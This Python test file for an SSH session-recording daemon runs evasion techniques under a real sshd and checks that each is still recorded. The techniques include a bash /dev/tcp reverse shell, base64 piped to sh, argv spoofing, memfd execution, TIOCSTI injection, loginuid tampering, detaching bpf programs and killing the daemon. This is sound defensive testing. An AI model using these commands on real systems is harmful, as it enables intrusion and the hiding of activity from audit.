#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""Ways around a recorder, tried under a real sshd: each is seen, and it is
seen whose it was. What cannot be seen stands in docs/limits.md, which case is
for which known way in docs/evasion.md, what root does to the daemon in
attacked_test.py. The programs that are run there lie in evasion/."""
import base64
import contextlib
import os
import shlex
import shutil
import socket
import struct
import subprocess
import sys
import time

HERE = os.path.dirname(os.path.abspath(__file__))
sys.path.insert(0, os.path.join(HERE, "..", "lib"))
import plays
from audittest import audit_as_found, auditctl
from daemontest import Daemon, wait_for
from plays import case
from sshdtest import free_port, need_taps, watched_host
from terminaltest import export
from trailtest import Skip, check, equal

TAPS = "bpf: auto, terminals: auto, audit: off, journal: off, wtmp: off, " \
    "btmp: off"


class Told:
    """All events that the daemon has told so far; they are asked for again
    only when something is missing, as all cases look at the same."""

    def __init__(self):
        self.events = []

    def ask(self):
        self.events = watch.found("search", "--all", "--since", "all",
                                  "--oldest-first", "--limit", "0")
        return self.events

    def wait(self, what, find):
        """What find(events) finds, once it does."""
        return find(self.events) or wait_for(what, lambda: find(self.ask()))


told = Told()


def ssh(*args, user=None, **kwargs):
    """The command that logs in: options of ssh, and the command there."""
    return sshd.command(user or sshd.person, args[-1], key=sshd.person.key,
                        options=args[:-1], **kwargs)


class Session:
    """One login, known by the address and port that its client had."""

    def __init__(self, client, out=b""):
        self.addr, self.port = client.split()[0].decode(), int(client.split()[1])
        self.out = out

    def events(self, events):
        """Those of this session among `events`."""
        ids = {e["session"] for e in events if e["kind"] == "session.open" and
               (e.get("addr"), e.get("port")) == (self.addr, self.port)}
        return [e for e in events if e.get("session") in ids]

    def sees(self, kind, test=lambda e: True, n=1):
        """The events of this session that test() is true of: n of them."""
        def find(events):
            found = [e for e in self.events(events)
                     if e["kind"] == kind and test(e)]
            return len(found) >= n and found
        return told.wait("%s in the session from port %d" % (kind, self.port),
                         find)

    def id(self):
        return self.sees("session.open")[0]["session"]

    def recording(self):
        """What its terminal showed."""
        close = self.sees("channel.close",
                          lambda e: e["chan_type"] == "terminal")[-1]
        return export(watch, close).decode(errors="replace")

    def runs(self, *argv):
        return self.sees("exec", lambda e: e["argv"] == list(argv))[-1]

    def connects(self, port):
        return self.sees("net.connect", lambda e: e["port"] == port)[-1]


def log_in(command, *options, expect=0, **kwargs):
    """A session that runs a command and is over."""
    done = subprocess.run(
        ssh(*options, "echo $SSH_CLIENT; " + command, **kwargs),
        stdin=subprocess.DEVNULL, capture_output=True, timeout=120)
    if expect is not None and done.returncode != expect:
        raise AssertionError("ssh ended with %d: %s%s" % (
            done.returncode, done.stdout.decode(errors="replace"),
            done.stderr.decode(errors="replace")))
    client, _, out = done.stdout.partition(b"\n")
    return Session(client, out)


class Open:
    """A session that goes on until it is ended."""

    def __init__(self, command, *options):
        self.process = subprocess.Popen(
            ssh(*options, "echo $SSH_CLIENT; " + command),
            stdin=subprocess.PIPE, stdout=subprocess.PIPE)
        self.session = Session(self.line())

    def line(self):
        return self.process.stdout.readline()

    def __enter__(self):
        return self

    def __exit__(self, *_):
        with contextlib.suppress(OSError):
            self.process.stdin.close()
        self.process.kill()
        self.process.wait()
        self.process.stdout.close()


def python(name, *args):
    """The command that runs a program of evasion/."""
    with open(os.path.join(HERE, "evasion", name)) as f:
        return shlex.join(["python3", "-c", f.read(), *map(str, args)])


# --- what is not what it looks like ---

@case
def encoded_scripts():
    """Commands that no screen shows: base64 to a shell"""
    hidden = base64.b64encode(b"/bin/echo hidden in base64\n").decode()
    s = log_in("echo %s | base64 -d | sh >/dev/null" % hidden)
    yield
    s.runs("/bin/echo", "hidden", "in", "base64")


@case
def no_echo():
    """Typed while the terminal shows nothing"""
    s = log_in("stty -echo; /bin/true unseen", "-tt")
    yield
    s.runs("/bin/true", "unseen")


@case
def past_the_login_shell():
    """A command in the shell's place, which would start a recorder"""
    s = log_in("exec bash --noprofile --norc -c '/bin/true past the shell; "
               "echo shown'", "-tt")
    yield
    s.runs("/bin/true", "past", "the", "shell")
    check("shown" in s.recording(), "it is not recorded")


@case
def a_transfer_that_is_none():
    """What looks like scp to who looks at the begin of the command"""
    s = log_in("scp -t nowhere </dev/null >/dev/null 2>&1; /bin/true behind")
    yield
    s.runs("/bin/true", "behind")


@case
def other_names():
    """A program by another name: argv[0], a copy, a link"""
    s = log_in("cp /bin/true ./sshd; ln -s /bin/true innocent; "
               "./sshd copied; ./innocent linked; exec -a crond true fake")
    yield
    copied, linked = s.runs("./sshd", "copied"), s.runs("./innocent", "linked")
    fake = s.runs("crond", "fake")
    true = os.path.realpath("/bin/true")
    equal((copied["exe"], linked["exe"], linked["path"], fake["exe"]),
          (sshd.person.home + "/sshd", true,
           sshd.person.home + "/innocent", true))


@case
def name_of_another():
    """A process that calls itself sshd (prctl)"""
    s = log_in(python("renamed.py", sshd.port))
    yield
    e = s.connects(sshd.port)
    equal((e["comm"], os.path.basename(e["exe"])[:6]), ("sshd", "python"))


@case
def racing_memory():
    """Arguments that another thread changes during the exec"""
    s = log_in(python("racing.py"))
    yield
    # What the programs themselves found as their arguments.
    ran = sorted(line.split()[-1] for line in s.out.decode().splitlines())
    equal(len(ran), 20)
    found = s.sees("exec", lambda e: len(e["argv"]) == 4 and
                   len(e["argv"][3]) == 64, len(ran))
    equal(sorted(e["argv"][3] for e in found), ran)


@case
def long_arguments():
    """What matters stands behind 100 KB of arguments"""
    s = log_in("/bin/true $(head -c 100000 /dev/zero | tr '\\0' x) "
               "$(seq 3000) payload")
    yield
    long = s.sees("exec", lambda e: e["argv"][-1] == "payload")[-1]
    equal((len(long["argv"]), len(long["argv"][1])), (3003, 100000))
    check("cut" not in long and "partial" not in long, "it is whole")


@case
def escape_sequences():
    """Arguments aimed at whoever reads them"""
    s = log_in("/bin/true $'\\e]0;owned\\a\\e[2J\\e[31m' $'\\u202e'")
    yield
    s.sees("exec", lambda e: e["argv"][0] == "/bin/true")
    for out in (watch.run("show", "--since", "all", s.id()).stdout,
                watch.run("search", "--since", "all", "--session", s.id(),
                          "--kind", "exec").stdout):
        out = out.decode()
        check("owned" in out, out)
        bad = [c for c in out if (ord(c) < 32 and c != "\n") or
               ord(c) in (0x7f, 0x202e)]
        equal(bad, [], "control characters")


# --- programs that are none ---

@case
def without_a_file():
    """A program that has no file: memfd and execveat"""
    s = log_in(python("memfd.py"))
    yield
    equal(s.runs("kworker/0:1", "from memory")["exe"],
          "/memfd:nothing here (deleted)")


@case
def deleted_file():
    """A program that is deleted while it runs"""
    s = log_in("cp /bin/sleep ./gone; ./gone 0.5 & sleep 0.2; rm gone; wait")
    yield
    equal(s.runs("./gone", "0.5")["exe"], sshd.person.home + "/gone")


def tiny(path, bits):
    """A static program that ends at once, without any library."""
    if bits == 32:
        # mov eax, 1; xor ebx, ebx; int 0x80
        code = b"\xb8\x01\x00\x00\x00\x31\xdb\xcd\x80"
        head = b"\x7fELF\1\1\1" + bytes(9) + struct.pack(
            "<HHIIIIIHHHHHH", 2, 3, 1, 0x8048054, 52, 0, 0, 52, 32, 1, 0, 0, 0)
        body = struct.pack("<IIIIIIII", 1, 0, 0x8048000, 0x8048000,
                           84 + len(code), 84 + len(code), 5, 4096)
    else:
        # mov eax, 60; xor edi, edi; syscall
        code = b"\xb8\x3c\x00\x00\x00\x31\xff\x0f\x05"
        head = b"\x7fELF\2\1\1" + bytes(9) + struct.pack(
            "<HHIQQQIHHHHHH", 2, 62, 1, 0x400078, 64, 0, 0, 64, 56, 1, 0, 0, 0)
        body = struct.pack("<IIQQQQQQ", 1, 5, 0, 0x400000, 0x400000,
                           120 + len(code), 120 + len(code), 4096)
    with open(path, "wb") as f:
        f.write(head + body + code)
    os.chmod(path, 0o755)
    return path


def raw_program(bits):
    path = tiny(sshd.path("tiny%d" % bits), bits)
    try:
        if subprocess.run([path], stderr=subprocess.DEVNULL).returncode:
            raise OSError
    except OSError:
        raise Skip("this kernel runs no %d-bit programs" % bits)
    s = log_in("%s raw" % path)
    yield
    s.runs(path, "raw")


@case
def static_programs():
    """No library that could be preloaded, no system call by libc"""
    yield from raw_program(64)


@case
def other_architecture():
    """A 32-bit program on a 64-bit kernel"""
    yield from raw_program(32)


@case
def builtins():
    """No program at all: a shell connects by itself"""
    s = log_in("exec 3<>/dev/tcp/127.0.0.1/%d; read -u 3 line" % sshd.port)
    yield
    equal(os.path.basename(s.connects(sshd.port)["exe"]), "bash")


@case
def through_a_ring():
    """A connection by io_uring, without a system call for it"""
    with socket.create_server(("127.0.0.1", 0)) as server:
        port = server.getsockname()[1]
        s = log_in(python("ring.py", port) + "; echo $?")
    if s.out.split()[-1] == b"77":
        raise Skip("io_uring is not allowed here")
    equal(s.out, b"0\n")
    yield
    s.connects(port)


# --- other ways in, and out of the session ---

@case
def second_channel():
    """Another channel of a connection that is open"""
    path = sshd.path("mux")
    with Open("read line", "-M", "-S", path) as first:
        second = log_in("/bin/true second channel", "-S", path)
        equal(second.port, first.session.port)
    yield
    second.runs("/bin/true", "second", "channel")


@case
def forwards():
    """A forward to somewhere else: the connection that sshd makes for it"""
    port = free_port()
    with Open("read line", "-L", "%d:127.0.0.1:%d" % (port, sshd.port)) as outer:
        inner = log_in("true", port=port)
    yield
    s = outer.session
    # Its local end is the client that the inner session came from.
    equal(s.connects(sshd.port)["lport"], inner.port)
    # So a story goes on with that one.
    hop, = wait_for("the hop", lambda: [
        h for h in watch.found("story", s.id(), "--all")
        if "hop" in h and h["port"] == inner.port])
    equal((hop["hop"], hop["hop_from"]), ("port", s.id()))


@case
def ipv6():
    """A client that comes over IPv6"""
    s = log_in("/bin/true six", at="::1")
    yield
    equal(s.addr, "::1")
    s.runs("/bin/true", "six")


@case
def left_behind():
    """What goes on after the end: setsid, nohup, two forks"""
    s = log_in("(setsid nohup sh -c 'sleep 1; /bin/true left behind' "
               ">/dev/null 2>&1 &)")
    yield
    s.sees("session.close")
    s.runs("/bin/true", "left", "behind")


@case
def reverse_shell():
    """A shell that somebody else is asked to type into"""
    with socket.create_server(("127.0.0.1", 0)) as server:
        server.settimeout(60)
        port = server.getsockname()[1]
        s = log_in("setsid nohup bash -c 'exec 3<>/dev/tcp/127.0.0.1/%d; "
                   "bash <&3' >/dev/null 2>&1 &" % port)
        with server.accept()[0] as shell:
            shell.sendall(b"/bin/true from afar\n")
    yield
    s.connects(port)
    s.runs("/bin/true", "from", "afar")


@case
def deep_chains():
    """Thirty shells, one in the other, the outer ones gone"""
    with open(sshd.path("deep"), "w") as f:
        f.write('[ $1 -gt 0 ] || exec /bin/true deep\n'
                'sh "$0" $(($1 - 1)) &\n')
    s = log_in("sh %s 30" % sshd.path("deep"))
    yield
    s.runs("/bin/true", "deep")


@case
def tmux_left_behind():
    """A tmux server that outlives its session, and another that uses it"""
    if not shutil.which("tmux"):
        raise Skip("tmux is not installed")
    first = log_in("tmux -L evade new-session -d -s kept")
    second = log_in(
        "tmux -L evade send-keys -t kept '/bin/true within tmux; "
        "tmux -L evade wait-for -S done' Enter; tmux -L evade wait-for done; "
        "tmux -L evade kill-server")
    yield
    # It is the doing of the session that started the server: that it was
    # typed from another one, its send-keys tells.
    first.runs("/bin/true", "within", "tmux")
    second.sees("exec", lambda e: "send-keys" in e["argv"])


@case
def typed_for_another():
    """root types into the terminal of another (TIOCSTI): told as that one's"""
    with Open("tty; exec sh", "-tt") as victim:
        tty = victim.line().decode().strip()
        by = log_in(python("push.py", tty), user="root", expect=None)
        victim.process.communicate(b"exit\n", timeout=60)
    yield
    by.sees("exec", lambda e: e["argv"][-1] == tty)
    victim.session.runs("/bin/true", "pushed")


@case
def another_cgroup():
    """root moves itself out of the session's cgroup"""
    at = sshd.path("cgroup")
    os.mkdir(at)
    s = log_in("cd %s && mount -t cgroup2 none . && cd . && mkdir sshtrail-evade "
               "&& echo $$ >sshtrail-evade/cgroup.procs && "
               "grep sshtrail-evade /proc/self/cgroup && /bin/true outside; "
               "echo $$ >cgroup.procs; rmdir sshtrail-evade; cd /; umount %s" %
               (at, at), user="root", expect=None)
    if b"sshtrail-evade" not in s.out:
        raise Skip("there are no cgroups (version 2) to be made here")
    yield
    s.runs("/bin/true", "outside")


@case
def login_uid_taken_off():
    """root takes the login uid off, which audit's rules ask for"""
    s = log_in("echo 4294967295 >/proc/self/loginuid; /bin/true nobody now; "
               "(setsid sh -c 'sleep .3; /bin/true nobody later' &)",
               user="root")
    yield
    s.sees("priv", lambda e: e["type"] == "LEFT")
    for word in ("now", "later"):
        equal(s.runs("/bin/true", "nobody", word)["auid"], 0)


@case
def login_uid_of_another():
    """root takes the login uid of another: a session within his"""
    s = log_in("echo 61234 >/proc/self/loginuid; /bin/true framed",
               user="root")
    yield
    inner = told.wait("the inner session", lambda events: [
        e for e in events
        if e["kind"] == "session.open" and e.get("auid") == 61234])[0]
    outer = s.sees("session.open")[0]
    equal((inner["old_auid"], inner["old_ses"]), (0, outer["ses"]))
    shown = watch.run("show", "--since", "all",
                      inner["session"]).stdout.decode()
    check("began within another audit session" in shown, shown)


# --- against the daemon ---

@case
def killing_it():
    """A user kills the daemon and removes its files: he may not"""
    pid = watch.process.pid
    s = log_in("kill -9 %s; rm -rf %s; cat %s/keys/host.key; true" % (
        " ".join(map(str, watch.pids())), watch.dir, watch.dir))
    yield
    equal(s.out, b"")
    equal((watch.process.poll(), watch.process.pid), (None, pid))
    s.runs("rm", "-rf", watch.dir)


def tells_udp():
    return "udp sends" in watch.tap("bpf")["note"].partition("not ")[0]


DATAGRAM = "python3 -c 'import socket; socket.socket(socket.AF_INET, " \
    "socket.SOCK_DGRAM).sendto(b\"secret\", (\"127.0.0.1\", 9))'"
DETACH = """bpftool link list -j |
    python3 -c 'import json, sys
for l in json.load(sys.stdin): print(l["id"])' |
    while read id; do bpftool link detach id $id 2>/dev/null; done
    /bin/true still seen"""


@case
def datagrams_then_detaching_programs():
    """Datagrams are seen; root can detach what sees them: that is a gap"""
    sent = tells_udp() and log_in(DATAGRAM)
    by = shutil.which("bpftool") and log_in(DETACH, user="root")
    yield
    if sent:
        equal(sent.connects(9)["op"], "datagram")
        out = watch.run("search", "--since", "all", "--session", sent.id(),
                        "--kind", "net.connect").stdout
        check(b"connect to 127.0.0.1 port 9 over UDP by python" in out, out)
    if not by:
        raise Skip("bpftool is not installed")
    # Those of processes cannot be detached while the daemon lives.
    by.runs("/bin/true", "still", "seen")
    if sent:
        wait_for("the gap", lambda: watch.tap("bpf")["lost"] == 4)


@case
def floods():
    """One command among hundreds"""
    s = log_in("for n in $(seq 400); do /bin/true; done; "
               "/bin/true in the flood; "
               "for n in $(seq 200); do /bin/true; done")
    yield
    s.runs("/bin/true", "in", "the", "flood")
    s.sees("exec", lambda e: e["argv"] == ["/bin/true"], 600)


@case
def hogs():
    """Who takes all processors: what he runs is told all the same"""
    s = log_in("for n in 1 2 3 4; do (while :; do :; done) & done; "
               "for n in $(seq 100); do /bin/true hog; done; "
               "kill $(jobs -p)", expect=None)
    yield
    s.sees("exec", lambda e: e["argv"] == ["/bin/true", "hog"], 100)


@case
def setting_the_clock():
    """root sets the clock, forward and back"""
    def step(seconds):
        try:
            time.clock_settime(time.CLOCK_REALTIME, time.time() + seconds)
        except OSError as e:
            raise Skip("the clock cannot be set here: %s" % e)

    def changes():
        return [e["reason"][:22] for e in watch.found(
            "search", "--all", "--since", "all", "--kind", "clock")
                if e["source"] == "sshtraild"]
    step(0.8)
    try:
        wait_for("the clock", lambda: len(changes()) == 1)
    finally:
        step(-0.8)
    wait_for("the clock", lambda: len(changes()) == 2)
    equal(sorted(changes()),
          ["the clock was set back", "the clock was set forw"])


@case
def switching_audit_off():
    """root switches audit off: that is told, and by whom"""
    with audit_as_found(), Daemon("audit: auto, bpf: off, terminals: off, "
                                  "journal: off, wtmp: off, btmp: off") as w:
        auditctl("-e", "1")
        w.start()
        need_taps(w, "audit: auto")
        equal(auditctl("-e", "0").returncode, 0)
        e, = wait_for("the record", lambda: [
            e for e in w.found("search", "--all", "--since", "all", "--kind",
                               "config") if e["source"] == "audit"])
        check("audit_enabled=0 old=1" in e["text"], e)
        equal((e["op"], e["comm"], e["trust"]), ("set", "auditctl", "kernel"))
        w.stop()


@case
def a_long_pause():
    """Nothing for longer than recorders wait, then on: exec and recording"""
    begin = time.monotonic()
    with Open("read line; /bin/true after a pause; echo awake", "-tt") as open_:
        yield
        time.sleep(max(0, begin + 32 - time.monotonic()))
        open_.process.communicate(b"\n", timeout=60)
    s = open_.session
    s.runs("/bin/true", "after", "a", "pause")
    check("awake" in s.recording(), s.recording())


@case
def trail_is_sound():
    """After all of it: nothing else lost, and the trail verifies"""
    lost = {t["tap"]: t["lost"] for t in watch.status()["taps"]}
    check(lost.pop("bpf") in (0, 4), "events were lost")
    equal(set(lost.values()), {0})
    watch.stop()
    watch.run("verify")


try:
    with watched_host("sshtrail-evade", TAPS,
                      listen=("127.0.0.1", "::1")) as (watch, sshd):
        code = plays.main()
except Skip as reason:
    print("1..0 # SKIP %s" % reason)
    code = 0
sys.exit(code)
